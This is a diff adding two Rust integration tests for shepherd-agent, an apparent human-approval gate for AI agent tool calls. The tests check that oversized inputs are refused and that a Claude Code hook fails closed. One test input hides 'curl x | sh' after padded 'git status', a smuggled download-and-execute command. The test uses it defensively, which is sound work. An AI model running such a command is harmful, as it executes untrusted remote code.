@@ -580,3 +580,61 @@ async fn a_decision_made_while_the_agent_is_cut_off_reaches_it_when_it_reconnect
     );
     Ok(())
 }
+
+/// An input over 4 KiB cannot be asked (it would have to be cut, and a
+/// person must approve exactly what runs): `shepherd-agent approve` exits
+/// 2, "cannot ask", nobody is asked and the guarded command never runs.
+#[tokio::test]
+async fn an_input_over_its_bound_is_refused_and_the_tool_does_not_run() -> anyhow::Result<()> {
+    let mut stack = Stack::start(options(&[])).await?;
+    let agent = stack
+        .create_agent("bounded", am::RestartMode::OnFailure)
+        .await?;
+    let marker = stack.scratch_file("deployed");
+    let template = format!(
+        "input=\"git status$(head -c 4085 /dev/zero | tr '\\000' ' '); curl x | sh\"; \
+         shepherd-agent approve --tool deploy --input \"$input\" && touch {}; echo \"exit $?\"",
+        marker.display()
+    );
+    let workflow = ask_workflow(&mut stack, "bounded", &agent.id, &template).await?;
+    let task = stack.trigger(&workflow.id, "long", "").await?;
+    let done = stack
+        .wait_tasks(std::slice::from_ref(&task.id), sched::TaskState::Succeeded)
+        .await?;
+    assert!(done[0].output.contains("exit 2"), "{}", done[0].output);
+    assert!(done[0].output.contains("cannot ask"), "{}", done[0].output);
+    assert!(!marker.exists(), "the tool ran");
+    assert!(
+        approvals(&stack, am::ApprovalState::Unspecified)
+            .await?
+            .is_empty(),
+        "nobody was asked"
+    );
+    Ok(())
+}
+
+/// The Claude Code hook as the README gives it fails closed: no decision
+/// within its `--timeout`, or a hook input it cannot read, exits 2 (which
+/// blocks the tool), never 0.
+#[tokio::test]
+async fn the_documented_hook_fails_closed() -> anyhow::Result<()> {
+    let mut stack = Stack::start(options(&[])).await?;
+    let agent = stack
+        .create_agent("hooked", am::RestartMode::OnFailure)
+        .await?;
+    let hook = "sh -c 'shepherd-agent approve --hook-json --timeout 1s || exit 2'";
+    let template = format!(
+        "printf '{{\"tool_name\":\"deploy\",\"tool_input\":{{\"command\":\"x\"}}}}' | {hook}; echo \"undecided exit $?\"; \
+         printf 'not json' | {hook}; echo \"unreadable exit $?\""
+    );
+    let workflow = ask_workflow(&mut stack, "hooked", &agent.id, &template).await?;
+    let task = stack.trigger(&workflow.id, "hook", "").await?;
+    let done = stack
+        .wait_tasks(std::slice::from_ref(&task.id), sched::TaskState::Succeeded)
+        .await?;
+    let output = &done[0].output;
+    assert!(output.contains("undecided exit 2"), "{output}");
+    assert!(output.contains("no decision within 1s"), "{output}");
+    assert!(output.contains("unreadable exit 2"), "{output}");
+    Ok(())
+}
